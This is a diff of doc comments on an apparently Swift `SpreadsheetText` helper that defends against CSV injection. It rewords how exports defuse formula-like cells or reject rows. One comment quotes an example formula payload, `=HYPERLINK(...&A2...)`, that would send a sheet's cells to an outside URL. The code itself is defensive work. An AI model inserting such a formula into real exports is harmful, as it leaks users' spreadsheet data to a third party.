@@ -3,8 +3,8 @@
 /// A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return) is run as a formula by
 /// Excel, LibreOffice and Google Sheets: a credential's activity title `=HYPERLINK("https://…?"&A2, "open")`
 /// would send the sheet's other cells to whoever wrote it (CSV injection, CWE-1236). Exports meant for people
-/// write such text *defused*, with a `'` in front, which spreadsheets show as text and do not display; exports
-/// meant for another system (a PARS upload) reject the row instead, since they may not change its values.
+/// write such text *defused*, with a `'` in front: a spreadsheet then takes the cell as text and hides the `'`.
+/// Exports meant for another system (a PARS upload) reject the row instead, since they may not change a value.
 public enum SpreadsheetText {
     /// Whether a spreadsheet would read `text` as a formula: it starts with `=`, `+`, `-`, `@`, a tab or a
     /// carriage return (the list OWASP gives for CSV injection).
